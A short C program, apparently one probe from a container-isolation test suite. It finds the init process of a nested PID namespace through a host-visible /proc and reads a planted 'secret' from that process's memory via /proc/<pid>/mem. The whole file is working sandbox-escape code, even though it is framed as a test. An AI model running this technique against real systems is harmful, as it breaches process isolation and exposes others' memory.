/* init_mem ADDRESS: finds the init of this namespace in a /proc that shows
   the host's, and reads "secret" from its memory.  */
#include "attack.h"
#include <dirent.h>

static int
is_init(const char *pid)
{
    char path[300], line[256];
    int outer = 0, inner = 0, found = 0;
    FILE *file;

    snprintf(path, sizeof path, "/proc/%s/status", pid);
    file = fopen(path, "r");
    if (file == NULL)
        return 0;
    while (!found && fgets(line, sizeof line, file) != NULL)
        found = sscanf(line, "NSpid: %d %d", &outer, &inner) == 2
            && inner == 1;
    fclose(file);
    return found;
}

int
main(int argc, char **argv)
{
    struct dirent *entry;
    DIR *dir = opendir("/proc");

    if (argc != 2 || dir == NULL)
        return 2;
    while ((entry = readdir(dir)) != NULL) {
        char path[300], text[7] = "";
        int fd;

        if (!is_init(entry->d_name))
            continue;
        snprintf(path, sizeof path, "/proc/%s/mem", entry->d_name);
        fd = open(path, O_RDONLY);
        if (fd < 0)
            return stopped("open");
        if (pread(fd, text, 6, number(argv[1])) == 6
            && strcmp(text, "secret") == 0)
            return escaped();
    }
    return stopped("pread");
}
